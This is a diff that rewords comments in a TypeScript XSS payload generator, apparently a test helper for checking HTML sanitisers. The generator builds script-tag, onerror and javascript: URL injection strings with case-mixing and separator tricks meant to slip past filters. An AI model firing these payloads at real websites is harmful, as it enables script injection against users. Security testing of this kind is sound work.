@@ -1,4 +1,4 @@
-/** Each calls `pwned(N)`, which only the attack defines: whatever of them runs names itself. */
+/** Each payload calls `pwned(N)`, so that the attack knows which one ran. */
 const BASES: ((call: string) => string)[] = [
   (call) => `<script>${call}</script>`,
   (call) => `<img src=x onerror=${call}>`,
@@ -31,7 +31,7 @@ const WRAPS: ((text: string) => string)[] = [
   (text) => text.replace(/<(\w+)/, (tag) => tag.toUpperCase()).replace('javascript:', 'jAvAsCrIpT:'),
   (text) => text.replace(/ /, '/'),
 ];
-/** Where no tag is needed: attributes, templates, scripts, addresses. */
+/** Payloads without a tag, for attributes, templates, scripts and URLs. */
 const BARE: ((call: string) => string)[] = [
   (call) => `javascript:${call}`,
   (call) => `JaVaScRiPt:${call}`,
@@ -63,7 +63,7 @@ const BARE: ((call: string) => string)[] = [
 export const isAddress = (payload: string): boolean =>
   /^[\sa-z]*(java\s?script|vbscript|data):/i.test(payload);
 
-/** `count` different ones, of every kind from the first few on. */
+/** Returns `count` different payloads, spread over all kinds. */
 export function xssPayloads(count: number): string[] {
   const makers = [
     ...BARE,
@@ -76,7 +76,7 @@ export function xssPayloads(count: number): string[] {
   );
   return [
     ...chosen.map((make, index) => make?.(`pwned(${index})`) ?? ''),
-    // Past the known kinds: the same ones again, one behind the other.
+    // Beyond the known kinds, two payloads are concatenated.
     ...Array.from({ length: Math.max(0, count - makers.length) }, (_, index) => {
       const make = (offset: number) =>
         makers[(index * 7 + offset) % makers.length]?.(`pwned(${index})`) ?? '';
